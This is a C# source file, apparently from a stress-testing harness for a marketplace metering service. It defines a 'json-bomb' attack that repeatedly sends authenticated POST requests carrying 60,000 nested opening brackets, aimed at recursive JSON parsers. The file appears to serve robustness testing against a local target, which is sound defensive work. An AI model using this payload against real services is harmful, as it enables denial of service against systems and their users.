using System.Text;

namespace Metering.Attacks;

/// <summary>
/// REST requests whose JSON is nested tens of thousands of times, for parsers that recurse. CWE-674.
/// </summary>
internal sealed class JsonBomb : Attack
{
    private const int Brackets = 60_000;

    public override string Name => "json-bomb";

    public override string Does => "REST requests of 60 KB of opening brackets";

    public override IReadOnlyList<string> MetBy => ["WriteMessageBytes"];

    public override string Unit => "requests";

    public override double UnitsPerSecond => 500;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenAsync(lane.Target.HttpEndPoint);
        byte[] request = Request(lane.Target.Token);
        while (true)
        {
            await lane.TakeTurnAsync(connection.Ended);
            await connection.SendAsync(request);
            lane.Tally.CountUnits(1);
        }
    }

    private static byte[] Request(string token)
    {
        string body = "{\"usageRecords\":" + new string('[', Brackets);
        return Encoding.ASCII.GetBytes(
            "POST /marketplace/metering/v1/productUsage/write HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            + $"Authorization: Bearer {token}\r\nContent-Length: {body.Length}\r\n\r\n{body}");
    }
}
